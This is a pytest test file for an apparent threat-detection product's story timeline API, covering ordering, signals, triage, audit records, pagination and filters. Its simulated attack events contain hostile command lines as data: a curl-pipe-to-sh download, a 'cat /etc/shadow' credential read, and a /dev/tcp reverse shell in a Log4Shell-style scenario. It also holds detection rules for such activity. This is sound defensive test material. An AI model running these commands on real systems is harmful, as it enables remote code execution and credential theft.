"""A story's threat timeline: order, causality, signals, triage, audit records, cursors, filters."""

from __future__ import annotations

import base64
import json
import textwrap
from datetime import datetime
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from starlette.testclient import TestClient

from app.api.app import create_app
from app.ingest import ingest
from app.investigation.stories import story_id
from app.investigation.timeline import timeline_page
from app.neo4j.database import Database
from app.pipeline import Pipeline
from app.rules.yamlrules import load_builtin, parse_rules
from tests.api.test_stories_api import gql
from tests.apiclient import local_client
from tests.rules.test_stories import admin_logins, alert
from tests.rules.test_stories import load as load_without_rules
from tests.test_layers import CONTAINER, POD, P, container_with_shell, uuid

RULES = parse_rules(
    textwrap.dedent("""
    rules:
      - id: t.download
        title: Download tool connects out
        severity: high
        tactic: command_and_control
        technique: T1105
        kinds: [network_connect]
        match: {process.exe|basename: curl}
        actions:
          - "Block {event.dst_ip} at the egress"
          - "Kill process {process.pid} on {event.host_id}"
      - id: t.shadow
        title: /etc/shadow read
        severity: medium
        tactic: credential_access
        technique: T1003.008
        kinds: [file_open]
        match: {event.path: /etc/shadow}
        actions: ["Rotate the passwords of {event.host_id}"]
    """),
    "timeline-test.yaml",
)

TIMELINE = """query($id: ID!, $first: Int!, $after: String, $kinds: [String!],
                   $severities: [Severity!]) {
  story(id: $id) {
    timeline(first: $first, after: $after, kinds: $kinds, severities: $severities) {
      pageInfo { hasNextPage endCursor }
      edges { cursor node { type kind ts
        event { id kind processPid signalRules }
        triage { id actor field fromValue toValue comment }
        auditRecord { id source action actor }
        signals { ruleId title severity tactic technique recommendedActions }
        recommendedActions } } } } }"""


def at(seconds: int) -> str:
    """The timestamp `seconds` after 08:00 on the scenarios' day (as P.start_time)."""
    minutes, seconds = divmod(seconds, 60)
    return f"2026-01-05T08:{minutes:02d}:{seconds:02d}.000000000Z"


def load(db: Database, events: list[dict[str, Any]]) -> None:
    lines = [json.dumps(e) + "\n" for e in events]
    report = ingest(db, "storyline", lines, after_batch=Pipeline(rules=RULES))
    assert report.rejected == [], report.rejected


def triage_change(db: Database, story: str, change_id: str, ts: str, field: str, to: str) -> None:
    db.query(
        "MATCH (s:Story {id: $story}) "
        "CREATE (s)-[:TRIAGE]->(:TriageChange {id: $id, ts: datetime($ts), actor: 'alice', "
        "field: $field, from: null, to: $to, comment: 'seen'})",
        {"story": story, "id": change_id, "ts": ts, "field": field, "to": to},
        write=True,
    )


def audit_record(db: Database, record_id: str, ts: str, label: str, key: str) -> None:
    """An audit record that RELATES_TO the node of `label` whose key property is `key`."""
    db.query(
        "MERGE (a:AuditRecord {id: $id}) "
        "SET a.source = 'k8s_audit', a.ts = datetime($ts), a.actor = 'mallory', "
        "    a.action = 'create pods/exec', a.outcome = 'success' "
        "WITH a MATCH (x) WHERE $label IN labels(x) AND $key IN [x.key, x.id, x.uid] "
        "MERGE (a)-[:RELATES_TO]->(x)",
        {"id": record_id, "ts": ts, "label": label, "key": key},
        write=True,
    )


def shell_attack(db: Database) -> dict[str, Any]:
    """An SSH shell runs `sh -c 'curl ... | sh'` and `cat /etc/shadow`; child ingested first.

    sh (pid 3010) and its child curl (pid 3005) exec at the same second: by pid,
    process key and event id curl comes first, so only causality puts sh first.
    cat's exec and its file_open share a second too (by event id, the open first).
    """
    sshd = P("node-1", 800, 0, "/usr/sbin/sshd", ["/usr/sbin/sshd", "-D"],
             attrs={"cgroup": "/system.slice/ssh.service"})  # fmt: skip
    bash = sshd.child(3000, 10, "/bin/bash", ["-bash"], tty="pts/0", uid=1000)
    sh = bash.child(3010, 20, "/bin/sh", ["sh", "-c", "curl -s http://198.51.100.7/x | sh"])
    curl = sh.child(3005, 20, "/usr/bin/curl", ["curl", "-s", "http://198.51.100.7/x"])
    cat = bash.child(3020, 30, "/usr/bin/cat", ["cat", "/etc/shadow"])
    ev = {
        "sshd": sshd.exec(),
        "bash": bash.exec(),
        "sh": sh.exec(),
        "curl": curl.exec(),
        "connect": curl.event(
            "network_connect", ts=at(21), network={"dst_ip": "198.51.100.7", "dst_port": 80}
        ),
        "imds": curl.event(
            "imds_request", ts=at(22), imds={"cloud": "aws", "access_key_id": "ASIAEXAMPLE"}
        ),
        "cat": cat.exec(),
        "shadow": cat.event("file_open", file={"path": "/etc/shadow"}),
    }
    load(db, [ev["curl"]])  # the child before its parent
    load(db, [ev["sh"]])
    load(db, [ev[n] for n in ("sshd", "bash", "connect", "imds", "cat", "shadow")])
    key = uuid(bash, "interactive_shell")
    story = story_id(key)
    triage_change(db, story, "t1", at(25), "status", "under_review")
    triage_change(db, story, "t2", at(30), "note", "cat read the hashes")  # ties with cat
    audit_record(db, "a-ctx", at(10), "Context", key)  # ties with bash's exec
    # a call signed with the key curl fetched from the metadata service
    audit_record(db, "a-curl", "2026-01-05T08:00:22.500000000Z", "Process", curl.key)
    audit_record(db, "a-sshd", at(15), "Process", sshd.key)  # sshd is not in the story
    return {"story": story, "key": key, "events": ev, "cat": cat}


@pytest.fixture
def attack(db: Database) -> dict[str, Any]:
    return shell_attack(db)


@pytest.fixture
def client(db: Database) -> TestClient:
    with local_client(create_app(db)) as c:
        yield c


def page(client: TestClient, story: str, first: int = 200, **variables: Any) -> dict:
    return gql(client, TIMELINE, id=story, first=first, **variables)["story"]["timeline"]


def entry_ids(timeline: dict) -> list[tuple[str, str]]:
    """(type, id) of each entry."""
    out = []
    for edge in timeline["edges"]:
        node = edge["node"]
        part = {"EVENT": "event", "TRIAGE": "triage", "AUDIT_RECORD": "auditRecord",
                "ACCESS": "event"}[node["type"]]  # fmt: skip
        out.append((node["type"], node[part]["id"]))
    return out


def walk(client: TestClient, story: str, first: int, **variables: Any) -> list[tuple[str, str]]:
    """Every entry, following cursors `first` at a time."""
    seen: list[tuple[str, str]] = []
    after = None
    for _ in range(100):  # a cursor that does not advance fails, not hangs
        got = page(client, story, first, after=after, **variables)
        assert len(got["edges"]) <= first
        seen += entry_ids(got)
        if not got["pageInfo"]["hasNextPage"]:
            return seen
        assert got["pageInfo"]["endCursor"] == got["edges"][-1]["cursor"]
        after = got["pageInfo"]["endCursor"]
    raise AssertionError(f"no last page after 100 pages: {seen[:20]}...")


def test_entries_in_time_order_with_causality_and_interleaving(
    attack: dict[str, Any], client: TestClient
) -> None:
    ev = attack["events"]
    timeline = page(client, attack["story"])
    assert entry_ids(timeline) == [
        ("AUDIT_RECORD", "a-ctx"),  # at 08:00:10, before the exec it explains
        ("EVENT", ev["bash"]["id"]),
        ("EVENT", ev["sh"]["id"]),  # 08:00:20: the parent's exec first...
        ("EVENT", ev["curl"]["id"]),  # ...though the child was ingested first
        ("EVENT", ev["connect"]["id"]),
        ("EVENT", ev["imds"]["id"]),  # 08:00:22: curl fetches a key from the metadata service
        ("AUDIT_RECORD", "a-curl"),  # 08:00:22.5: a call signed with it
        ("TRIAGE", "t1"),  # 08:00:25
        ("EVENT", ev["cat"]["id"]),  # 08:00:30: exec, then the open, then the note
        ("EVENT", ev["shadow"]["id"]),
        ("TRIAGE", "t2"),
    ]
    assert not timeline["pageInfo"]["hasNextPage"]
    nodes = [e["node"] for e in timeline["edges"]]
    times = [datetime.fromisoformat(n["ts"]) for n in nodes]  # toString() trims zeros
    assert times == sorted(times)
    assert [n["kind"] for n in nodes] == [
        "audit_record", "process_exec", "process_exec", "process_exec", "network_connect",
        "imds_request", "audit_record", "triage", "process_exec", "file_open", "triage",
    ]  # fmt: skip
    assert nodes[0]["auditRecord"] == {
        "id": "a-ctx", "source": "k8s_audit", "action": "create pods/exec", "actor": "mallory"
    }  # fmt: skip
    assert nodes[7]["triage"] == {
        "id": "t1", "actor": "alice", "field": "status", "fromValue": None,
        "toValue": "under_review", "comment": "seen",
    }  # fmt: skip
    assert (nodes[0]["event"], nodes[0]["triage"]) == (None, None)
    assert (nodes[1]["auditRecord"], nodes[1]["triage"]) == (None, None)
    pids = [n["event"]["processPid"] for n in nodes if n["event"]]
    assert pids == [3000, 3010, 3005, 3005, 3005, 3020, 3020]


def test_signals_and_actions_are_on_their_events(
    attack: dict[str, Any], client: TestClient
) -> None:
    nodes = [e["node"] for e in page(client, attack["story"])["edges"]]
    flagged = {n["event"]["id"]: n for n in nodes if n["signals"]}
    assert set(flagged) == {attack["events"]["connect"]["id"], attack["events"]["shadow"]["id"]}
    connect = flagged[attack["events"]["connect"]["id"]]
    actions = ["Block 198.51.100.7 at the egress", "Kill process 3005 on node-1"]
    assert connect["signals"] == [
        {"ruleId": "t.download", "title": "Download tool connects out", "severity": "HIGH",
         "tactic": "command_and_control", "technique": "T1105", "recommendedActions": actions}
    ]  # fmt: skip
    assert connect["recommendedActions"] == actions
    assert connect["event"]["signalRules"] == ["t.download"]
    shadow = flagged[attack["events"]["shadow"]["id"]]
    assert [(s["ruleId"], s["severity"]) for s in shadow["signals"]] == [("t.shadow", "MEDIUM")]
    assert shadow["recommendedActions"] == ["Rotate the passwords of node-1"]
    assert all(n["recommendedActions"] == [] for n in nodes if not n["signals"])


def test_kind_filters(attack: dict[str, Any], client: TestClient) -> None:
    ev = attack["events"]
    execs = page(client, attack["story"], kinds=["process_exec"])
    assert entry_ids(execs) == [("EVENT", ev[n]["id"]) for n in ("bash", "sh", "curl", "cat")]
    records = page(client, attack["story"], kinds=["audit_record", "triage"])
    assert entry_ids(records) == [("AUDIT_RECORD", "a-ctx"), ("AUDIT_RECORD", "a-curl"),
                                  ("TRIAGE", "t1"), ("TRIAGE", "t2")]  # fmt: skip
    mixed = walk(client, attack["story"], 1, kinds=["file_open", "network_connect", "triage"])
    assert mixed == [("EVENT", ev["connect"]["id"]), ("TRIAGE", "t1"),
                     ("EVENT", ev["shadow"]["id"]), ("TRIAGE", "t2")]  # fmt: skip
    assert page(client, attack["story"], kinds=["dns_query"])["edges"] == []


def test_severity_filters(attack: dict[str, Any], client: TestClient) -> None:
    ev = attack["events"]
    high = page(client, attack["story"], severities=["HIGH"])
    assert entry_ids(high) == [("EVENT", ev["connect"]["id"])]
    both = walk(client, attack["story"], 1, severities=["MEDIUM", "HIGH"])
    assert both == [("EVENT", ev["connect"]["id"]), ("EVENT", ev["shadow"]["id"])]
    with_notes = page(client, attack["story"], severities=["MEDIUM"], kinds=["file_open", "triage"])
    assert entry_ids(with_notes) == [("TRIAGE", "t1"), ("EVENT", ev["shadow"]["id"]),
                                     ("TRIAGE", "t2")]  # fmt: skip
    assert page(client, attack["story"], severities=["CRITICAL"])["edges"] == []
    assert page(client, attack["story"], severities=["HIGH"], kinds=["file_open"])["edges"] == []


def busy_shell(db: Database) -> tuple[str, list[str]]:
    """A shell whose tool makes 40 events in bursts of one second, then 10 events a second
    apart (no tie to pad a page); returns the story id and its event ids."""
    sshd = P("node-9", 800, 0, "/usr/sbin/sshd", ["/usr/sbin/sshd", "-D"],
             attrs={"cgroup": "/system.slice/ssh.service"})  # fmt: skip
    bash = sshd.child(5000, 10, "/bin/bash", ["-bash"], tty="pts/0", uid=1000)
    tool = bash.child(5001, 10, "/usr/bin/find", ["find", "/"])
    opens = [tool.event("file_open", ts=at(11 + i // 12), file={"path": f"/srv/{i}"})
             for i in range(40)]  # fmt: skip
    curl = bash.child(5002, 41, "/usr/bin/curl", ["curl", "http://192.0.2.8/"])
    connects = [curl.event("network_connect", ts=at(42 + i), network={"dst_ip": "192.0.2.8"})
                for i in range(9)]  # fmt: skip
    events = [sshd.exec(), bash.exec(), tool.exec(), *opens, curl.exec(), *connects]
    load(db, [*events, alert(opens[-1], "bulk_read", "medium", "collection")])
    key = uuid(bash, "interactive_shell")
    for i, second in enumerate((11, 12, 40)):
        triage_change(db, story_id(key), f"t{i}", at(second), "note", f"note {i}")
    audit_record(db, "a-bash", at(12), "Process", bash.key)
    return story_id(key), [e["id"] for e in events[1:]]  # sshd is not in the story


@settings(max_examples=25, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])  # fmt: skip
@given(sizes=st.lists(st.integers(min_value=1, max_value=13), min_size=1, max_size=60))
def test_cursors_walk_every_entry_exactly_once(db: Database, sizes: list[int]) -> None:
    if not db.query("MATCH (s:Story) RETURN s.id")[1]:
        busy_shell(db)  # once: hypothesis reuses the function's database
    [story] = db.query("MATCH (s:Story) RETURN s.id AS id, s.correlation_keys AS keys")[1]
    whole = timeline_page(db, story["id"], story["keys"], first=200)
    assert not whole.has_next_page
    assert len(whole.items) == 52 + 1 + 3 + 1  # events, the alert, triage, audit
    seen, after, step = [], None, 0
    while step < 100:  # a cursor that does not advance fails, not hangs
        got = timeline_page(db, story["id"], story["keys"], sizes[step % len(sizes)], after)
        assert len(got.items) <= sizes[step % len(sizes)]
        seen += [(i.type, i.record["id"]) for i in got.items]
        step += 1
        if not got.has_next_page:
            break
        after = got.end_cursor
    assert seen == [(i.type, i.record["id"]) for i in whole.items]


def test_a_tie_group_larger_than_a_page_is_walked_in_order(
    db: Database, client: TestClient
) -> None:
    story, ids = busy_shell(db)
    everything = page(client, story)
    walked = walk(client, story, 5)
    assert walked == entry_ids(everything)
    assert len(set(walked)) == len(walked) == 57
    events = [i for t, i in walked if t == "EVENT"]
    assert set(ids) < set(events)  # and the alert event
    # 08:00:10: bash's exec, then find's (its child); the 12 opens of 08:00:11 by id
    assert events[:2] == ids[0:2]
    assert events[2:14] == sorted(ids[2:14])


def test_a_routine_story_covers_all_its_keys(db: Database, client: TestClient) -> None:
    events, shells = admin_logins()
    load_without_rules(db, events)
    [routine] = db.query(
        "MATCH (s:Story) WHERE size(s.correlation_keys) = 3 RETURN s.id AS id, "
        "s.correlation_keys AS keys"
    )[1]
    assert set(routine["keys"]) == {shells[f"alice-{i}"] for i in (1, 2, 3)}
    expected = db.query(
        "MATCH (e:Event) WHERE e.correlation_key IN $keys RETURN e.id AS id, "
        "e.correlation_key AS key",
        {"keys": routine["keys"]},
    )[1]
    key_of = {r["id"]: r["key"] for r in expected}
    assert set(key_of.values()) == set(routine["keys"])
    walked = walk(client, routine["id"], 2)
    assert sorted(i for _, i in walked) == sorted(key_of)
    times = [e["node"]["ts"] for e in page(client, routine["id"])["edges"]]
    assert times == sorted(times) and len(times) == len(key_of)
    sudo = page(client, routine["id"], severities=["LOW"])
    assert {key_of[i] for _, i in entry_ids(sudo)} == set(routine["keys"])
    assert len(sudo["edges"]) == 3


def test_related_audit_records_of_containers_and_pods(db: Database, client: TestClient) -> None:
    events, key_of, _ = container_with_shell()
    ls = events[5]
    load(db, [*events, alert(ls, "k8s_exec_shell", "medium", "execution")])
    story = story_id(key_of[2101])
    audit_record(db, "a-container", at(50), "Container", CONTAINER["id"])
    audit_record(db, "a-pod", at(49), "Pod", POD["uid"])
    db.query("MERGE (:Pod {uid: 'other-pod'})", write=True)
    audit_record(db, "a-other", at(51), "Pod", "other-pod")
    # the entrypoint shares the container, not the story's context
    entrypoint = events[1]["process"]
    audit_record(db, "a-entry", at(52), "Process",
                 f"node-2|{entrypoint['pid']}|{entrypoint['start_time']}")  # fmt: skip
    assert db.query("MATCH (:AuditRecord)-[r:RELATES_TO]->() RETURN count(r) AS n")[1] == [{"n": 4}]
    records = page(client, story, kinds=["audit_record"])
    assert entry_ids(records) == [("AUDIT_RECORD", "a-pod"), ("AUDIT_RECORD", "a-container")]
    everything = entry_ids(page(client, story))
    assert everything[:4] == [("AUDIT_RECORD", "a-pod"), ("AUDIT_RECORD", "a-container"),
                              ("EVENT", events[4]["id"]), ("EVENT", ls["id"])]  # fmt: skip


def bad(client: TestClient, story: str, **variables: Any) -> str:
    body = client.post(
        "/graphql", json={"query": TIMELINE, "variables": {"id": story, **variables}}
    ).json()
    assert body["data"]["story"] is None, body
    return body["errors"][0]["message"]


def test_bad_cursors_and_page_sizes_are_clear_errors(
    attack: dict[str, Any], client: TestClient
) -> None:
    story = attack["story"]
    assert bad(client, story, first=5, after="not a cursor!") == "invalid cursor"
    wrong_shape = base64.urlsafe_b64encode(json.dumps(["2026", "x"]).encode()).decode()
    assert bad(client, story, first=5, after=wrong_shape) == "invalid cursor"
    events_cursor = page(client, story, 1)["pageInfo"]["endCursor"]
    assert bad(client, story, first=0, after=events_cursor) == "first must be between 1 and 200"
    assert bad(client, story, first=201) == "first must be between 1 and 200"
    assert page(client, story, 200)["pageInfo"]["hasNextPage"] is False


# -- how the exploited process was reached ------------------------------------------------------


def log4shell() -> tuple[list[dict[str, Any]], str, dict[str, str]]:
    """A JVM serving requests is exploited at 08:02:00 and spawns `sh -c` (a reverse shell).

    Its own events around then: requests from the load balancer every second from 08:01:40,
    the exploit's request from 198.51.100.9 and its LDAP and HTTP callbacks just before the
    shell, pool connections to 127.0.0.1 and a Unix socket (never how it is reached), a
    partner call 3 s after, and requests outside the window (70 s before, 10 s after).
    Returns the events, the story id and the ids of the JVM's events by name.
    """
    java = P("node-3", 400, 0, "/usr/bin/java", ["java", "-jar", "/opt/app.jar"],
             attrs={"cgroup": "/system.slice/app.service", "uid": 998})  # fmt: skip
    sh = java.child(
        4000, 120, "/bin/sh", ["sh", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"]
    )
    bash = sh.child(4001, 121, "/bin/bash", ["bash", "-i"])

    def net(name: str, kind: str, second: float, ip: str | None, port: int | None) -> dict:
        whole, frac = divmod(second, 1)
        minutes, secs = divmod(int(whole), 60)
        network = {"dst_ip": ip, "dst_port": port, "protocol": "tcp", "family": "inet"}
        if ip is None:
            network = {"family": "unix"}
        event = java.event(kind, ts=f"2026-01-05T08:{minutes:02d}:{secs:02d}."
                                    f"{round(frac * 1e9):09d}Z", network=network)  # fmt: skip
        event["id"] = name
        return event

    java_events = [net("old", "network_accept", 50, "10.0.0.5", 40000)]
    java_events += [net(f"lb{s}", "network_accept", s, "10.0.0.5", 40000 + s)
                    for s in range(100, 119)]  # fmt: skip
    java_events += [
        net("exploit", "network_accept", 119.5, "198.51.100.9", 51512),
        net("ldap", "network_connect", 119.6, "198.51.100.9", 1389),
        net("pool", "network_connect", 119.7, "127.0.0.1", 5432),
        net("fetch", "network_connect", 119.8, "198.51.100.9", 8000),
        net("fastcgi", "network_connect", 119.9, None, None),
        net("partner", "network_connect", 123, "10.0.3.20", 8443),
        net("late", "network_accept", 130, "10.0.0.5", 41000),
    ]
    events = [java.exec(), *java_events, sh.exec(), bash.exec()]
    ids = {"sh": events[-2]["id"], "bash": events[-1]["id"]}
    return events, story_id(uuid(sh, "exploit")), ids


@pytest.fixture
def exploited(db: Database) -> tuple[str, dict[str, str]]:
    events, story, ids = log4shell()
    report = ingest(db, "storyline", [json.dumps(e) + "\n" for e in events],
                    after_batch=Pipeline(rules=load_builtin()))  # fmt: skip
    assert report.rejected == []
    return story, ids


def test_an_exploit_story_opens_with_how_the_exploited_process_was_reached(
    exploited: tuple[str, dict[str, str]], client: TestClient
) -> None:
    story, ids = exploited
    timeline = page(client, story)
    # the 10 connections with other hosts nearest the shell's start, in time order, among
    # the story's own events; loopback, Unix sockets and what is outside the window left out
    nearest = [f"lb{s}" for s in range(113, 119)] + ["exploit", "ldap", "fetch"]
    assert entry_ids(timeline) == [
        *[("ACCESS", name) for name in nearest],
        ("EVENT", ids["sh"]),
        ("EVENT", ids["bash"]),
        ("ACCESS", "partner"),
    ]
    nodes = [e["node"] for e in timeline["edges"]]
    exploit = nodes[6]
    assert (exploit["kind"], exploit["event"]["kind"], exploit["event"]["processPid"]) == (
        "access",
        "network_accept",
        400,
    )
    assert (exploit["signals"], exploit["recommendedActions"]) == ([], [])
    assert set(nodes[9]["event"]["signalRules"]) == {
        "linux.shell_from_jvm", "linux.reverse_shell_dev_tcp"
    }  # fmt: skip
    # `access` is a kind of its own for the filters
    only = page(client, story, kinds=["access"])
    assert [i for t, i in entry_ids(only)] == [*nearest, "partner"]
    assert entry_ids(page(client, story, kinds=["process_exec"])) == [
        ("EVENT", ids["sh"]), ("EVENT", ids["bash"])
    ]  # fmt: skip
    assert all(t == "EVENT" for t, _ in entry_ids(page(client, story, severities=["HIGH"])))
    # pages of any size walk them once, in order
    assert walk(client, story, 4) == entry_ids(timeline)


def test_a_story_without_an_exploit_context_has_no_access_entries(
    attack: dict[str, Any], client: TestClient
) -> None:
    assert page(client, attack["story"], kinds=["access"])["edges"] == []
